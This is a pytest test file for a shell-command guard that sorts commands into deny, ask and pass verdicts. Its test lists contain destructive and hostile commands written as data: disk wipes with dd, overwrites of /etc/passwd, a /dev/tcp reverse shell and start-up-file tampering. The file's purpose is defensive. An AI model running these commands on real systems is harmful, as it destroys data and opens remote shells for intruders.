"""What is written over: systems, start-up files, disks; the project is there to be written to."""

from collections.abc import Callable

import pytest

from hookline.model.answers import Answer, Verdict

Guard = Callable[..., Answer]


@pytest.mark.parametrize(
    "command",
    [
        "> /etc/passwd",
        "truncate -s 0 /etc/hosts",
        "echo x > /dev/sda",
        "dd if=/dev/zero of=/dev/nvme0n1",
        "cat x | tee /dev/sda",
        "cp image.iso /dev/sdb",
        "mv src /dev/null",
        "mv .git ../old",
        "mv /etc/passwd /tmp/x",
        "cp x.conf /etc/ssh/sshd_config",
        "echo b > /proc/sysrq-trigger",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "chown -R nobody /usr",
        "chmod -R 777 ~",
    ],
)
def test_systems_and_disks_are_not_written_over(guard: Guard, command: str) -> None:
    assert guard(command).verdict is Verdict.DENY


@pytest.mark.parametrize(
    "command",
    [
        "echo x >> ~/.bashrc",
        "ls > ~/.zshrc",
        "bash -c 'echo x >> ~/.bashrc'",
        "ssh web 'echo x > /etc/hosts'",
        "cp /dev/null ~/.bashrc",
        "ln -sf /tmp/x ~/.ssh",
        "true > src/app.py",
        ": > README.md",
        "cat /dev/null > README.md",
        "sed -i d src/app.py",
        "sed -i 's/.*//' README.md",
        "sed -i 's/a/b/' ~/.profile",
        "perl -pi -e 's/a/b/' ~/.bashrc",
        "install -m 755 x /usr/bin/x",
        "chmod 777 /etc/shadow",
        "chmod -R 777 .",
        "chmod u+s tool",
        "setfacl -R -m u:x:rwx /etc",
        "chattr -i notes.txt",
        "tar xzf rootfs.tgz -C /",
        "unzip x.zip -d /usr",
        "zip -rm all.zip src",
        "curl -o /usr/bin/tool https://example.com/tool",
        "mv * /tmp/trash",
        "scp nginx.conf web:/etc/nginx/nginx.conf",
        "echo x > .git/config",
    ],
)
def test_what_others_obey_or_need_is_asked_about(guard: Guard, command: str) -> None:
    assert guard(command).verdict in (Verdict.ASK, Verdict.DENY)


@pytest.mark.parametrize(
    "command",
    [
        "echo x > notes.md",
        "cat a b > combined.txt",
        "echo done >> README.md",
        "pytest -q > build/test.log 2>&1",
        "make 2> /dev/null",
        "cat > src/app.py <<'EOF'\nprint(1)\nEOF",
        "ls > /tmp/listing",
        "make | tee build/make.log",
        "dd if=/dev/zero of=build/blob count=1",
        "cp README.md /tmp/",
        "cp a.py b.py",
        "mv a.py b.py",
        "ln -s ../shared shared",
        "sed -i 's/a/b/' src/app.py",
        "sed -i.bak 's/a/b/' README.md",
        "chmod +x run.sh",
        "chmod 600 ~/.ssh/config",
        "chmod -R u+w build",
        "tar -xzf x.tgz -C build",
        "unzip -l x.zip",
        "curl -o build/x https://example.com/x",
        ": > build/empty",
    ],
)
def test_the_project_is_there_to_be_written_to(guard: Guard, command: str) -> None:
    assert guard(command).verdict is Verdict.PASS
